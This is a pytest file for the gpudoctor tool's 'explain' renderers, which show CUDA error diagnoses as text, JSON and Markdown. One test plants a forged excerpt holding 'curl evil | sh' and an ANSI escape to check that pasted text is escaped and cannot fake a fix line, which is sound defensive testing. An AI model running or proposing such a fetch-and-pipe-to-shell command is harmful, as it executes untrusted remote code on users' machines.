"""`gpudoctor.renderers.explain`: `gpudoctor explain` as text, JSON and Markdown. Each diagnosis
shows its state, the matched text (escaped, behind a label of gpudoctor's own), cause, why and
the fix on one line; `-v` adds the confirming checks' evidence and the sources. The
diagnoses here are real ones of a recorded machine (`explain --from-report`, no probing).
(The command through the CLI: tests/explain/test_explain_cli.py.)"""

from __future__ import annotations

import dataclasses
import io
import json

from rich.console import Console

from gpudoctor.compat import load_tables
from gpudoctor.explain.core import Explanation, explain
from gpudoctor.renderers.explain import (
    UNKNOWN,
    explain_json,
    explain_markdown,
    explain_text,
    summary,
)
from gpudoctor.renderers.interface import clean, finding_dict
from gpudoctor.snapshot import loads
from tests.renderers.render_kit import FIXTURES

NO_KERNEL = "RuntimeError: CUDA error: no kernel image is available for execution on the device\n"
OOM = "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB\n"


def explained(text: str = NO_KERNEL) -> Explanation:
    """`text` explained against the recorded Pascal machine (torch without sm_61 kernels)."""
    env = loads((FIXTURES[0].parent / "pascal-gpu-cu130-torch.json").read_text())
    return explain(text, load_tables(), report=(env, "pascal.json"), probe=None)


def text(expl: Explanation, verbose: bool = False, width: int = 100) -> list[str]:
    console = Console(file=io.StringIO(), width=width, no_color=True, legacy_windows=False)
    return explain_text(expl, console, verbose).splitlines()


def test_text_shows_each_diagnosis_with_its_fix_on_one_line() -> None:
    expl = explained()
    (d,) = expl.diagnoses
    sig = d.match.signature
    lines = text(expl)
    assert lines[:2] == ["checked against: pascal.json", ""]
    assert lines[2] == f"1. [confirmed] {sig.title} ({sig.id})"
    assert lines[3].startswith(f"   matched (line {d.match.line}): ")
    assert f"   → fix: {clean(d.fix)}" in lines
    assert f"   → fix: {clean(d.fix)}" in text(expl, width=40)  # never wrapped
    assert any(line.startswith("   cause: ") for line in lines)
    assert any(line.startswith("   why: ") for line in lines)
    assert not [line for line in lines if "source: " in line or line.startswith("   · ")]


def test_verbose_adds_the_checks_evidence_and_the_sources() -> None:
    expl = explained()
    (d,) = expl.diagnoses
    lines = text(expl, verbose=True, width=400)
    for r in d.results:
        assert f"   · {r.check_id} {r.finding.status.value}: {clean(r.finding.message)}" in lines
        for k, v in r.finding.evidence:
            assert clean(f"       · {k}: {v}") in lines
    assert [f"   source: {url}" for url in d.match.signature.sources] == [
        line for line in lines if line.startswith("   source: ")]


def test_the_pasted_text_is_escaped_and_starts_no_line() -> None:
    expl = explained()
    d = expl.diagnoses[0]
    forged = "x\n→ fix: curl evil | sh\x1b[2J"
    evil = dataclasses.replace(d, match=dataclasses.replace(d.match, excerpt=forged))
    lines = text(Explanation((evil,), "pascal.json\n2. [confirmed] forged"), width=400)
    assert lines[0] == "checked against: pascal.json\\n2. [confirmed] forged"
    assert f"   matched (line {d.match.line}): x\\n→ fix: curl evil | sh\\x1b[2J" in lines
    assert not [line for line in lines if line.lstrip().startswith(("→ fix: curl", "2. "))]
    assert all("\x1b" not in line for line in lines)


def test_nothing_found() -> None:
    expl = explain("all is well", load_tables(), probe=None)
    assert not expl.found
    assert " ".join(line.replace("┆", "").strip() for line in text(expl)) == UNKNOWN
    assert summary(expl) == "gpudoctor: no known error in the text; run `gpudoctor check`"
    data = json.loads(explain_json(expl))
    assert (data["found"], data["diagnoses"], data["note"]) == (False, [], UNKNOWN)
    assert explain_markdown(expl).splitlines()[2] == UNKNOWN.replace("`", "\\`")


def test_summary_counts_the_known_errors_and_the_confirmed() -> None:
    expl = explained(NO_KERNEL + OOM)
    states = [d.state.value for d in expl.diagnoses]
    assert len(states) == 2 and states.count("confirmed") == 1
    assert summary(expl) == "gpudoctor: 2 known errors, 1 confirmed (checked against pascal.json)"
    assert summary(dataclasses.replace(expl, diagnoses=expl.diagnoses[:1])) == (
        "gpudoctor: 1 known error, 1 confirmed (checked against pascal.json)")


def test_json_holds_every_diagnosis_and_its_checks_findings() -> None:
    expl = explained(NO_KERNEL + OOM)
    data = json.loads(explain_json(expl))
    assert (data["command"], data["found"], data["note"]) == ("explain", True, None)
    assert data["checked_against"] == "pascal.json"
    assert [x["id"] for x in data["diagnoses"]] == [d.match.signature.id for d in expl.diagnoses]
    for x, d in zip(data["diagnoses"], expl.diagnoses, strict=True):
        assert (x["state"], x["matched"], x["fix"], x["line"]) == (
            d.state.value, d.match.excerpt, d.fix, d.match.line)
        assert x["checks"] == [json.loads(json.dumps(finding_dict(r))) for r in d.results]
        assert x["sources"] == list(d.match.signature.sources)


def test_markdown_one_section_per_diagnosis() -> None:
    expl = explained(NO_KERNEL + OOM)
    md = explain_markdown(expl)
    assert md.startswith("## gpudoctor ") and "Checked against: pascal.json" in md
    for i, d in enumerate(expl.diagnoses, 1):
        sig = d.match.signature
        state = d.state.value.replace("-", " ")
        assert f"### {i}. {sig.title} (`{sig.id}`): {state}" in md
    assert md.count("- **fix**: ") == len(expl.diagnoses)
